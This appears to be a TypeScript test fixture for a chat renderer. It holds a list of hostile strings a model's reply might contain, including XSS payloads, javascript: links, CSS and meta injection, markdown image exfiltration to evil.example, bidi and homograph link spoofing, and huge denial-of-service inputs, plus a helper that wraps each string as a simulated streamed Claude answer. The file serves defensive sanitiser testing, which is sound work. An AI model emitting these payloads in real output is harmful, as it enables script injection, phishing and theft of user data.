/** What a model could be talked into writing, to reach whoever reads it. */
export const hostileTexts: readonly string[] = [
  '<script>globalThis.hacked = 1; alert(1)</script><img src=x onerror="globalThis.hacked=2"><svg onload=alert(3)><iframe src="javascript:alert(4)"></iframe>',
  '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style><link rel=stylesheet href=https://evil.example/c><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(2)) [c](java\tscript:alert(3)) [d](data:text/html,<script>alert(4)</script>) [e](vbscript:x) [f](\u0001javascript:alert(5)) [g](https://ok.example/ "onmouseover=alert(6)")',
  '![exfil](https://evil.example/?secret=abc) ![x](data:image/svg+xml,<svg onload=alert(1)>) [![in a link](https://evil.example/i)](https://evil.example/l)\n\n![ref][r]\n\n[r]: https://evil.example/ref',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(2)&#62; &#x3C;svg/onload=alert(3)&#x3E;',
  'https://good.example\u202e/moc.live//:sptth \u2066[x](https://good.example@evil.example/)\u2069 [https://bank.example](https://evil.example/) [аpple](https://xn--pple-43d.com/)',
  '`<script>alert(1)</script>`\n\n```html"onload=alert(1)\n<script>alert(2)</script>\n```\n\n```<img src=x onerror=alert(3)>\nx\n```',
  '| <script>alert(1)</script> | [a](javascript:alert(2)) |\n|---|---|\n| ![x](https://evil.example/t) | **<b onclick=alert(3)>** |\n',
  '<form action=https://evil.example/><input name=a><button>send</button></form><object data=https://evil.example/o></object><embed src=https://evil.example/e><video src=https://evil.example/v autoplay>',
  `${'> '.repeat(3_000)}deep\n\n${'- '.repeat(3_000)}deep\n\n${'**_'.repeat(3_000)}deep ${'['.repeat(5_000)}`,
  'x'.repeat(1_000_000),
  `${'*a '.repeat(60_000)}\n\n${']('.repeat(20_000)}\n\n${'`'.repeat(20_000)}`,
  `# ${'<svg/onload=alert(1)>'.repeat(10)}\n\n1. <details open ontoggle=alert(1)>\n2. {{constructor.constructor('alert(1)')()}} \${alert(1)}\n\n<template><script>alert(1)</script></template>`,
]

const message = {
  id: 'msg_hostile',
  type: 'message',
  role: 'assistant',
  model: 'claude-sim',
  content: [],
  stop_reason: null,
  stop_sequence: null,
  usage: { input_tokens: 1, output_tokens: 1 },
}

/** An answer of Claude's with that text, in pieces that cut it anywhere; first of all it is thought. */
export function recordingOf(text: string): Buffer {
  const size = Math.max(7, Math.ceil(text.length / 200))
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, n) => text.slice(n * size, (n + 1) * size))
  const thought = text.slice(0, 500)
  const events = [
    { type: 'message_start', message },
    { type: 'content_block_start', index: 0, content_block: { type: 'thinking', thinking: '', signature: '' } },
    { type: 'content_block_delta', index: 0, delta: { type: 'thinking_delta', thinking: thought } },
    { type: 'content_block_delta', index: 0, delta: { type: 'signature_delta', signature: 'c2lnbmVk' } },
    { type: 'content_block_stop', index: 0 },
    { type: 'content_block_start', index: 1, content_block: { type: 'text', text: '' } },
    ...pieces.map((text) => ({ type: 'content_block_delta', index: 1, delta: { type: 'text_delta', text } })),
    { type: 'content_block_stop', index: 1 },
    { type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 5 } },
    { type: 'message_stop' },
  ]
  return Buffer.from(events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join(''))
}
